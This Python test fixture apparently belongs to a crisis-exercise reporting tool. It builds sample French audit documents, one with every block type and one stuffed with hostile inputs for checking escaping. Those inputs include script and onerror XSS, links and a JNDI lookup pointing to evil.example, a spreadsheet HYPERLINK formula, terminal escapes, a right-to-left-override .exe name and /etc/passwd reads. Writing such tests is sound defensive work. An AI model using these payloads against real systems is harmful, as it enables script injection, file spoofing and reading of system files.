"""A document that has one of every block, and one that means harm."""

from __future__ import annotations

from datetime import UTC, datetime

from crisisplay.audit.document import (
    Bullets,
    Card,
    Code,
    Column,
    Document,
    Pairs,
    Paragraph,
    Picture,
    Quote,
    Row,
    Section,
    Series,
    Table,
)

PICTURE = (
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 600 80" width="600" height="80">'
    '<rect x="1" y="20" width="598" height="30" fill="#dfe6ee" stroke="#5b6470"/>'
    '<circle cx="120" cy="35" r="6" fill="#a3201d"/>'
    '<text x="120" y="70" font-family="sans-serif" font-size="12" text-anchor="middle">'
    "09:12 décision ◆</text></svg>"
)

BROKEN_PICTURE = Picture("<svg", "nothing")

# What each of these would do, somewhere: run, link, load, compute, hide, turn round, break out.
HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[paie](https://evil.example/pay) ![pixel](https://evil.example/p.png)",
    "https://evil.example/auto www.evil.example who@evil.example",
    '=HYPERLINK("https://evil.example";"ok")',
    "\x1b]8;;https://evil.example\x07here\x1b]8;;\x07 \x1b[2J",
    "invoice_\u202egpj.exe zero\u200bwidth",
    '#import "/etc/passwd" #eval("1") $x^2$ @ref <label> *bold* _it_ = Title',
    '"); read("/etc/passwd") //',
    "| cell | `code` | ~~gone~~ \\ &amp; &lt; &#60;",
    "# heading\n- item\n1. one\n> quote\n---\n    code\n```\nfence\n```\n[a]: https://evil.example",
    "\x00\x08\x0b\x1f\x7f\ufffe\ud83d",
    "👩‍🚒 日本語 \U0001f64f",
    "{{ fact }} ${jndi:ldap://evil.example} %s %n",
)


# What is to be typed: indents, blank lines, long lines, and what elsewhere would be a link or a mark.
SCRIPT = (
    "# sh check.sh journal.jsonl #41\n"
    'for l in "$d"/l.*; do\n\n'
    '    grep -q \',"type":"erased",\' "$l" && echo `wc -l` ```` **done** <b>&amp;\n'
    "done " + "x" * 150
)


def every_block(*, kind: str = "report") -> Document:
    log = Table(
        "Les entrées",
        (
            Column("N°", 1, "number"),
            Column("Heure", 2, "time"),
            Column("Qui", 2),
            Column("Quoi", 6),
            Column("Reçu", 4, "code"),
        ),
        tuple(
            Row(
                (
                    str(n),
                    f"09:{n:02}",
                    "C. Roy",
                    f"Note {n} : œuvre, 12 €, été → ✓ (#4)",
                    "1cb1 7301 e176 fdd1 6045",
                ),
                n,
            )
            for n in range(1, 60)
        ),
    )
    card = Card(
        "Quelle posture tenir ?",
        (
            Pairs((("Choix", "Réparer"), ("Raison", "La faute est à nous (#40)"))),
            Bullets(("Réparer : conseillé", "Atténuer")),
            Series("Et 2 faits comme à #40", ("Quel lot ? A12 (#3)", "Depuis quand ? hier (#5)")),
            Card("À l’intérieur", (Paragraph("Une carte dans une carte."),), note="info"),
        ),
        41,
        "warn",
        "14:52",
    )
    return _document(
        kind,
        Section(
            "summary",
            "Synthèse",
            (
                Paragraph("Ce qui s’est passé, vu de #41 et de #4."),
                Paragraph("Tout va bien.", "good"),
                Paragraph("Attention.", "warn"),
                Paragraph("Grave.", "bad"),
                Paragraph("Discret.", "muted"),
                Quote("We are sorry.\n\nNext news at 15:30.", "en", "Version 2, en ligne"),
                Code(SCRIPT, "check.sh"),
                Picture(PICTURE, "Une décision à 09:12", "Le déroulé"),
                Table("Vide", (Column("A"),), (), "Rien à montrer."),
            ),
        ),
        Section("decisions", "Décisions", (card,)),
        Section("log", "Main courante", (log,), new_page=True),
    )


def hostile() -> Document:
    """Each payload in every place that a text can be in."""
    blocks = tuple(
        Card(
            text,
            (
                Paragraph(text),
                Quote(text, 'en"><x', text),
                Code(text, text),
                Bullets((text,)),
                Series(text, (text, text)),
                Pairs(((text, text),)),
                Table(text, (Column(text), Column(text, 1, "code")), (Row((text, text), 7),), text),
                Table(text, (Column(text),), (), text),
                Picture(PICTURE, text, text),
            ),
            note=text,
        )
        for text in HOSTILE
    )
    all_of_it = " ".join(HOSTILE)
    return Document(
        kind="report",
        lang="en",
        title=all_of_it,
        subtitle=all_of_it,
        mark=all_of_it[:60],
        cover=Pairs(((all_of_it, all_of_it),)),
        sections=(Section("hostile", all_of_it, blocks),),
        foot=all_of_it[:200],
        date=datetime(2026, 11, 22, 14, 52, tzinfo=UTC),
        seq=41,
        head="ab" * 32,
    )


def long_log(entries: int) -> Document:
    """A log of that many entries, each with its words, who wrote it and its receipt."""
    columns = (
        Column("N°", 1, "number"),
        Column("Heure", 2),
        Column("Qui", 3),
        Column("Quoi", 9),
        Column("Reçu", 5, "code"),
    )
    rows = tuple(
        Row(
            (
                str(n),
                f"{9 + n // 60 % 12:02}:{n % 60:02}",
                "Camille Roy",
                f"Décision {n} : réparer, parce que la faute est à nous et confirmée (#{max(1, n - 1)})",
                f"{n:04x} 7301 e176 fdd1 6045",
            ),
            n,
        )
        for n in range(1, entries + 1)
    )
    return _document(
        "report", Section("log", "Main courante", (Table("Les entrées", columns, rows),))
    )


def _document(kind: str, *sections: Section) -> Document:
    assert kind in ("report", "sitrep", "ics-201", "ics-214")
    return Document(
        kind=kind,  # type: ignore[arg-type] # asserted above
        lang="fr",
        title="Produit défectueux : rapport",
        subtitle="2026-11-22-defective-product-7f3a",
        mark="EXERCICE",
        cover=Pairs((("Ouvert", "22/11/2026 14:10 (UTC+01:00)"), ("Niveau", "2"))),
        sections=sections,
        foot="2026-11-22-defective-product-7f3a · #59 · 1cb1 7301 e176 fdd1 6045",
        date=datetime(2026, 11, 22, 14, 52, tzinfo=UTC),
        seq=59,
        head="ab" * 32,
    )
